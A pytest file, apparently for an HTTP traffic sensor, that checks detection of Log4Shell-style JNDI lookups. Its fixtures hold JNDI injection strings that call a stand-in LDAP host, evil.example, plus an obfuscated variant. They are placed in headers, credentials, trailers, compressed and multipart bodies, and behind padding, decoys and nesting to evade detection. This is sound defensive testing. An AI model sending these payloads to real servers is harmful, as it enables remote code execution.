"""Where a lookup may hide: behind padding, among many headers, in names, credentials, trailers, bodies, replies."""

from __future__ import annotations

import base64
import gzip
from collections.abc import Callable

import pytest

from sensor.http.cleartext import read_cleartext
from sensor.http.lookups import MAX_FOUND, find_lookups
from sensor.settings import HttpSettings
from tests.http.wire import Heard, answer, ask

Hear = Callable[..., Heard]
SETTINGS = HttpSettings()
JNDI = b"${jndi:ldap://evil.example/a}"
HIDDEN = b"${${lower:j}ndi:${::-l}dap://evil.example/a}"
FOUND = "jndi:ldap://evil.example/a"
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
FORM_DATA = b"Content-Type: multipart/form-data; boundary=x\r\n"


def get(target: bytes = b"/", fields: bytes = b"") -> bytes:
    return b"GET %b HTTP/1.1\r\nHost: shop.example\r\n%b\r\n" % (target, fields)


def post(body: bytes, fields: bytes = b"") -> bytes:
    return b"POST / HTTP/1.1\r\nHost: shop.example\r\n%bContent-Length: %d\r\n\r\n%b" % (fields, len(body), body)


def chunked(body: bytes, trailers: bytes) -> bytes:
    head = b"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    return head + b"%x\r\n%b\r\n0\r\n%b\r\n" % (len(body), body, trailers)


def part(fields: bytes, body: bytes) -> bytes:
    return b'--x\r\nContent-Disposition: form-data; name="a"%b\r\n\r\n%b\r\n--x--\r\n' % (fields, body)


MANY = b"".join(b"X-%d: y\r\n" % i for i in range(150))
DECOYS = b"".join(b"${env:A%d}" % i for i in range(40))

REQUESTS: dict[str, bytes] = {
    "target": get(b"/?a=" + JNDI),
    "target, behind padding": get(b"/?a=" + b"x" * 9000 + JNDI),
    "target, behind padding, hidden": get(b"/?a=" + b"x" * 60000 + HIDDEN),
    "header, behind padding": get(fields=b"X-A: " + b"x" * 9000 + JNDI + b"\r\n"),
    "header, behind padding, hidden": get(fields=b"X-A: " + b"x" * 60000 + HIDDEN + b"\r\n"),
    "header, folded behind padding": get(fields=b"X-A: " + b"x" * 9000 + b"\r\n " + JNDI + b"\r\n"),
    "behind a hundred headers": get(fields=MANY + b"X-A: " + JNDI + b"\r\n"),
    "behind a hundred headers, one odd": get(fields=b"no colon\r\n" + MANY + b"X-A: " + JNDI + b"\r\n"),
    "header's name": get(fields=JNDI + b": x\r\n"),
    "header's name, percent": get(fields=b"X-$%7bjndi:ldap://evil.example/a}: x\r\n"),
    "Basic": get(fields=b"Authorization: Basic " + base64.b64encode(JNDI + b":secret") + b"\r\n"),
    "Basic, password": get(fields=b"Proxy-Authorization: basic " + base64.b64encode(b"ola:" + HIDDEN) + b"\r\n"),
    "Basic, padding left out": get(
        fields=b"Authorization: Basic " + base64.b64encode(JNDI + b":x").rstrip(b"=") + b"\r\n"
    ),
    "trailer": chunked(b"{}", b"X-A: " + JNDI + b"\r\n"),
    "body": post(b'{"a": "' + JNDI + b'"}', b"Content-Type: application/json\r\n"),
    "body without a type": post(b"a=" + JNDI),
    "body of another type": post(b"a=" + JNDI, b"Content-Type: application/vnd.api+json\r\n"),
    "body that begins with a zero": post(b"0" + JNDI, b"Content-Type: text/plain\r\n"),
    "body that is compressed": post(gzip.compress(b"a=" + JNDI), b"Content-Encoding: gzip\r\n"),
    "body, chunked": chunked(JNDI, b""),
    "part": post(part(b"", JNDI), FORM_DATA),
    "part of a type": post(part(b"\r\nContent-Type: text/html", JNDI), FORM_DATA),
    "part's file name": post(part(b'; filename="' + JNDI + b'"', b"x"), FORM_DATA),
    "part's headers": post(part(b"\r\nX-A: " + JNDI, b"x"), FORM_DATA),
    "behind decoys": get(fields=b"X-A: " + DECOYS + JNDI + b"\r\n"),
    "behind decoys in other headers": get(
        fields=b"".join(b"X-%d: ${env:A%d}\r\n" % (i, i) for i in range(40)) + b"X-A: " + JNDI + b"\r\n"
    ),
    "behind deep nesting": get(fields=b"X-A: " + b"${" * 30 + b"}" * 30 + JNDI + b"\r\n"),
    "in deep nesting": get(fields=b"X-A: " + b"${a:-" * 30 + JNDI + b"}" * 30 + b"\r\n"),
}  # fmt: skip


@pytest.mark.parametrize("name", REQUESTS)
def test_requests(hear: Hear, name: str) -> None:
    found = read_cleartext(hear(ask(REQUESTS[name]), answer(OK)).only, False, SETTINGS)
    assert found is not None
    assert any(lookup.startswith(FOUND) for lookup in found.lookups), found.lookups
    assert "secret" not in repr(found)


@pytest.mark.parametrize(
    "reply",
    [
        b"HTTP/1.1 302 Found\r\nLocation: http://a.example/" + JNDI + b"\r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n" + MANY + b"X-A: " + HIDDEN + b"\r\nContent-Length: 0\r\n\r\n",
    ],
)
def test_replies(hear: Hear, reply: bytes) -> None:
    found = read_cleartext(hear(ask(get()), answer(reply)).only, False, SETTINGS)
    assert found is not None
    assert found.lookups == (FOUND,)
    assert found.suspect == ()


def test_an_ocsp_request_may_hide_one_too(hear: Hear) -> None:
    for target in (b"/%2524%257Bjndi:ldap://evil.example/a%257D", b"/\\u0024{jndi:ldap://evil.example/a}"):
        found = read_cleartext(hear(ask(get(target)), answer(OK)).only, True, SETTINGS)
        assert found is not None
        assert found.lookups == (FOUND,)


def test_what_is_cut_is_said(hear: Hear) -> None:
    assert "HTTP_too_many_headers" in hear(ask(get(fields=MANY)), answer(OK)).weirds
    assert "HTTP_too_many_headers" in hear(ask(get(fields=b"no colon\r\n" + MANY)), answer(OK)).weirds
    assert "HTTP_too_many_headers" not in hear(ask(get(fields=MANY[: MANY.index(b"X-90")])), answer(OK)).weirds


def test_headers_beyond_the_limit_are_kept_only_if_they_say_something(hear: Hear) -> None:
    heard = hear(ask(get(fields=MANY + b"X-A: " + JNDI + b"\r\nX-B: b\r\n")), answer(OK))
    assert len(heard.request.headers) == SETTINGS.max_headers + 1
    assert heard.request.headers[-1].name == b"x-a"


def test_a_short_body_is_read_and_a_long_one_is_not(hear: Hear) -> None:
    for size, there in ((SETTINGS.max_form_bytes, True), (SETTINGS.max_form_bytes + 1, False)):
        request = post((b"a=" + JNDI).ljust(size, b"x"))
        found = read_cleartext(hear(ask(request), answer(OK)).only, False, SETTINGS)
        assert (found is not None) == there


def test_ordinary_bodies_say_nothing(hear: Hear) -> None:
    for body in (b"PK\x03\x04<?php", b"#!/bin/sh\necho; curl x", b"\x89PNG\r\n\x1a\n` wget x"):
        request = post(body, b"Content-Type: application/octet-stream\r\n")
        assert read_cleartext(hear(ask(request), answer(OK)).only, False, SETTINGS) is None


def test_the_jndi_ones_are_told_first() -> None:
    found = find_lookups(DECOYS + JNDI)
    assert len(found) == MAX_FOUND
    assert FOUND in found
